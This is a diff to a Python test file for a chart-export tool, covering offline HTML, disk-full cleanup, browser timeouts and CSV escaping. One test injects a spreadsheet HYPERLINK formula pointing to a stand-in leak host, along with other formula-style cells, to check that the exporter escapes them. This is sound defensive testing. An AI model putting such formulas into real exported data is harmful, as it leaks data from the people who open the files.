@@ -2,10 +2,16 @@
 
 from __future__ import annotations
 
+import errno
 import io
 import os
+import pathlib
+import re
 import shutil
 import struct
+import subprocess
+import sys
+import time
 import xml.etree.ElementTree as ET
 import zipfile
 
@@ -62,13 +68,40 @@ def test_png_and_svg_files_parse(compare_zip):
     assert "Stars" in svg.decode()
 
 
-def test_html_is_self_contained_and_opens_offline(compare_zip):
-    out, _ = compare_zip
+def test_the_html_files_share_one_plotly_js_and_open_offline(compare_zip, tmp_path):
+    """plotly.js (4.8 MB) is shipped once per export, beside the page folders, instead of
+    inside every HTML file; each file still draws its chart from file:// with no network."""
+    out, names = compare_zip
+    assert names.count("plotly.min.js") == 1
     with zipfile.ZipFile(out) as archive:
         html = archive.read("compare/stars.html").decode()
-    assert len(html) > 3_000_000  # plotly.js is inside the file
-    assert '<script src="http' not in html  # nothing loaded from the network
+        assert archive.getinfo("plotly.min.js").file_size > 3_000_000
+        archive.extractall(tmp_path)
+    assert len(html) < 1_000_000  # the data, not plotly.js
+    scripts = re.findall(r'<script[^>]*src="([^"]+)"', html)
+    assert scripts == ["../plotly.min.js"]  # relative: nothing loaded from the network
+    assert (tmp_path / "compare" / scripts[0]).resolve() == tmp_path / "plotly.min.js"
     assert "TensorFlow" in html
+
+    playwright_api = pytest.importorskip("playwright.sync_api")
+    from tests.browsing import CHROMIUM_ARGS, chromium_path
+
+    requests: list[str] = []
+    with playwright_api.sync_playwright() as driver:
+        browser = driver.chromium.launch(executable_path=chromium_path(), args=CHROMIUM_ARGS)
+        try:
+            page = browser.new_page()
+            errors: list[str] = []
+            page.on("pageerror", lambda error: errors.append(str(error)))
+            page.on("request", lambda request: requests.append(request.url))
+            page.goto((tmp_path / "compare" / "stars.html").as_uri())
+            page.wait_for_selector(".js-plotly-plot .main-svg", timeout=30_000)
+            legend = page.locator(".legendtext").all_text_contents()
+        finally:
+            browser.close()
+    assert not errors
+    assert "TensorFlow" in legend
+    assert all(url.startswith("file://") for url in requests), requests
 
 
 def test_csv_holds_exactly_the_data_drawn(compare_zip):
@@ -207,3 +240,242 @@ def test_an_export_never_replaces_what_is_there_unless_asked(tmp_path):
         == 0
     )
     assert (folder / "overview" / "METHODS.md").is_file() and (folder / "mine.txt").is_file()
+
+
+# --- a full disk: a failed export leaves nothing behind, and a retry works ---------------
+
+
+@pytest.fixture
+def disk_fills_up(monkeypatch):
+    """Call it with `room` (bytes): from then on, files opened for writing share that much
+    room, and the write that does not fit writes what fits and fails with ENOSPC, as on a
+    full disk. `room=None` frees the disk again."""
+    real_open = pathlib.Path.open
+    state: dict[str, int | None] = {"room": None}
+
+    class Filling:
+        def __init__(self, stream):
+            self._stream = stream
+
+        def write(self, data):
+            room = state["room"]
+            if room is not None and len(data) > room:
+                self._stream.write(data[:room])
+                state["room"] = 0
+                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+            if room is not None:
+                state["room"] = room - len(data)
+            return self._stream.write(data)
+
+        def __getattr__(self, name):
+            return getattr(self._stream, name)
+
+        def __enter__(self):
+            return self
+
+        def __exit__(self, *exc):
+            self._stream.close()
+
+    def opening(self, mode="r", *args, **kwargs):
+        stream = real_open(self, mode, *args, **kwargs)
+        if state["room"] is None or "b" not in mode or not set(mode) & set("wax"):
+            return stream
+        return Filling(stream)
+
+    monkeypatch.setattr(pathlib.Path, "open", opening)
+
+    def fill(room: int | None) -> None:
+        state["room"] = room
+
+    return fill
+
+
+def _tree(folder: pathlib.Path) -> dict[str, bytes]:
+    """Every file and folder under `folder` (hidden ones too), with the files' bytes."""
+    return {
+        p.relative_to(folder).as_posix(): (p.read_bytes() if p.is_file() else b"<dir>")
+        for p in sorted(folder.rglob("*"))
+    }
+
+
+@pytest.mark.parametrize("target", ["overview", "overview.zip"])
+def test_an_export_that_fills_the_disk_leaves_nothing_behind_and_a_retry_works(
+    target, tmp_path, disk_fills_up, capsys
+):
+    folder = tmp_path / "exports"
+    (folder / "older").mkdir(parents=True)
+    (folder / "notes.txt").write_text("mine")
+    before = _tree(folder)
+    args = ["export", "--page", "overview", "--formats", "csv,html", "--out"]
+    disk_fills_up(1_000_000)  # the CSV files fit; plotly.min.js (4.8 MB) does not
+    assert cli.main([*args, str(folder / target)]) == cli.EXIT_EXPORT
+    error = capsys.readouterr().err
+    assert "No space left on device" in error and "Traceback" not in error
+    assert _tree(folder) == before  # no temporary file, no partial file, no new folder
+    disk_fills_up(None)
+    assert cli.main([*args, str(folder / target)]) == 0  # not refused as "not empty"
+    assert (folder / target).exists() and (folder / "notes.txt").read_text() == "mine"
+
+
+@pytest.mark.parametrize("target", ["overview", "overview.zip"])
+def test_a_failed_overwrite_keeps_the_earlier_export_and_the_users_files(
+    target, tmp_path, disk_fills_up
+):
+    out = tmp_path / target
+    export_pages("overview", out, catalog=_shipped(tmp_path), formats=["csv"])
+    if out.is_dir():
+        (out / "my-notes.txt").write_text("mine")
+    before = _tree(tmp_path / target) if out.is_dir() else out.read_bytes()
+    disk_fills_up(1_000_000)
+    with pytest.raises(ExportError, match="No space left on device"):
+        export_pages(
+            "overview", out, catalog=_shipped(tmp_path), formats=["csv", "html"], overwrite=True
+        )
+    after = _tree(tmp_path / target) if out.is_dir() else out.read_bytes()
+    assert after == before
+    assert [p.name for p in tmp_path.iterdir()] == [target]  # no temporary file beside it
+
+
+# --- no browser, or one that hangs: exit 6 at once, the HTML and CSV all the same ----------
+
+ROOT = pathlib.Path(__file__).resolve().parent.parent
+
+
+def test_without_chromium_the_export_exits_6_at_once_and_writes_the_html_and_csv(tmp_path):
+    """kaleido's server thread used to die on the missing browser and leave the export
+    waiting forever; now the browser is looked up first (as kaleido does it)."""
+    env = {
+        **os.environ,
+        "BROWSER_PATH": str(tmp_path / "no-browser-here"),  # kaleido looks here and only here
+        "HOME": str(tmp_path / "home"),  # and no browser that kaleido downloaded itself
+    }
+    out = tmp_path / "out"
+    command = [sys.executable, "cli.py", "export", "--page", "compare", "--out", str(out)]
+    done = subprocess.run(command, cwd=ROOT, env=env, capture_output=True, text=True, timeout=240)
+    assert done.returncode == cli.EXIT_EXPORT, done.stderr
+    assert "apt-get install chromium" in done.stderr and "Traceback" not in done.stderr
+    assert "were written to" in done.stderr
+    written = sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file())
+    for chart in ("stars", "forks", "open_issues", "downloads"):
+        assert f"compare/{chart}.html" in written and f"compare/{chart}.csv" in written
+    assert "plotly.min.js" in written and "compare/METHODS.md" in written
+    assert not [name for name in written if name.endswith((".png", ".svg"))]
+
+
+def test_a_missing_browser_is_reported_in_seconds_with_the_install_hint(tmp_path, monkeypatch):
+    import plotly.graph_objects as go
+
+    import exports
+
+    monkeypatch.setenv("BROWSER_PATH", str(tmp_path / "no-browser-here"))
+    monkeypatch.setenv("HOME", str(tmp_path))
+    start = time.monotonic()
+    with pytest.raises(ExportError, match="apt-get install chromium"):
+        exports.figure_bytes(go.Figure(), "png")
+    assert time.monotonic() - start < 5
+
+
+def _alive(pid: int) -> bool:
+    try:
+        state = pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
+    except OSError:
+        return False
+    return state not in ("Z", "X")
+
+
+def test_a_browser_that_never_answers_is_given_up_on_and_killed(tmp_path, monkeypatch):
+    import exports
+
+    pid_file = tmp_path / "browser.pid"
+    browser = tmp_path / "chromium"
+    browser.write_text(f"#!/bin/sh\necho $$ > {pid_file}\nexec sleep 600\n")
+    browser.chmod(0o755)
+    monkeypatch.setenv("BROWSER_PATH", str(browser))
+    monkeypatch.setattr(exports, "START_SECONDS", 2)
+    out = tmp_path / "out"
+    start = time.monotonic()
+    with pytest.raises(ExportError, match="did not start within 2 s") as failed:
+        export_pages("compare", out, catalog=_shipped(tmp_path), formats=["png", "csv"])
+    assert time.monotonic() - start < 60
+    assert "compare/stars.csv" in failed.value.written and (out / "compare/stars.csv").is_file()
+    assert not list(out.rglob("*.png"))
+    pid = int(pid_file.read_text())
+    deadline = time.monotonic() + 10
+    while _alive(pid) and time.monotonic() < deadline:
+        time.sleep(0.1)
+    assert not _alive(pid), "the hung browser was left running"
+
+
+def test_a_render_that_hangs_is_cut_off(monkeypatch):
+    _chromium()
+    import asyncio
+
+    import kaleido
+    import plotly.graph_objects as go
+
+    import exports
+
+    async def never(self, *args, **kwargs):
+        await asyncio.sleep(3600)
+
+    monkeypatch.setattr(kaleido.Kaleido, "calc_fig", never)
+    monkeypatch.setattr(exports, "IMAGE_SECONDS", 1)
+    start = time.monotonic()
+    with pytest.raises(ExportError, match="did not render a PNG within 1 s"):
+        exports.figure_bytes(go.Figure(go.Scatter(y=[1, 2])), "png")
+    assert time.monotonic() - start < 60
+
+
+# --- CSV cells a spreadsheet would run ---------------------------------------------------
+
+
+def test_a_name_that_is_a_formula_is_exported_as_text(tmp_path):
+    from registry.projects import DEFAULT_REGISTRY
+
+    formula = '=HYPERLINK("http://evil.example/?leak","Keras")'
+    projects = tmp_path / "projects.toml"
+    escaped = formula.replace('"', '\\"')  # a TOML string
+    projects.write_text(
+        DEFAULT_REGISTRY.read_text().replace('name = "Keras"', f'name = "{escaped}"', 1)
+    )
+    assert formula in {project.name for project in load_registry(projects)}
+    out = tmp_path / "out"
+    export_pages(
+        "all", out, catalog=_shipped(tmp_path), registry=load_registry(projects), formats=["csv"]
+    )
+    tracked = pd.read_csv(out / "overview" / "tracked-projects.csv")
+    assert "'" + formula in set(tracked["project"])
+    stars = pd.read_csv(out / "compare" / "stars.csv")
+    assert "'" + formula in set(stars["series"])
+    for path in out.rglob("*.csv"):  # no text cell anywhere starts a formula
+        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
+        for column in frame:
+            for value in frame[column]:
+                if value[:1] in ("=", "+", "@", "\t", "\r"):
+                    raise AssertionError(f"{path.name}: {column} = {value!r}")
+    evidence = pd.read_csv(out / "claims" / "claim-access.csv")  # negative numbers stay numbers
+    assert evidence["value"].dtype == "float64" and (evidence["value"] < 0).any()
+
+
+def test_csv_cells_are_escaped_by_the_owasp_rule_and_numbers_are_left_alone():
+    from exports import csv_bytes
+
+    frame = pd.DataFrame(
+        {
+            "name": ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx", "-3.5", "plain", None],
+            "value": [-1.5, -2, 0, 1, 2, 3, 4, 5, float("nan")],
+            "=header": ["a"] * 9,
+        }
+    )
+    rows = csv_bytes(frame).decode().split("\n")
+    assert rows[0] == "name,value,'=header"
+    assert [row.split(",")[0] for row in rows[1:7]] == [
+        "'=1+1",
+        "'+SUM(A1)",
+        "'-2+3",
+        "'@cmd",
+        "'\tx",
+        "'\rx",
+    ]
+    assert rows[7].startswith("-3.5,") and rows[8].startswith("plain,")  # a number as text
+    assert [row.split(",")[1] for row in rows[1:3]] == ["-1.5", "-2.0"]  # numbers untouched
